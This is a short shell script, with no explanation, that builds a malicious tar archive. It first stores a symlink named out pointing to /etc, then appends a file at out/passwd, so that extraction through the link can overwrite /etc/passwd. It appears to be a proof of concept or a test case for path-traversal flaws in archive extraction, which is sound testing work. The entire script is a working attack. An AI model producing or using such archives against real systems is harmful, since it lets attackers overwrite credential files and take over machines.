mkdir x
ln -s /etc x/out
tar --owner=0 --group=0 -cf a.tar -C x out
rm x/out
mkdir x/out
printf f > x/out/passwd
tar --owner=0 --group=0 -rf a.tar -C x out/passwd
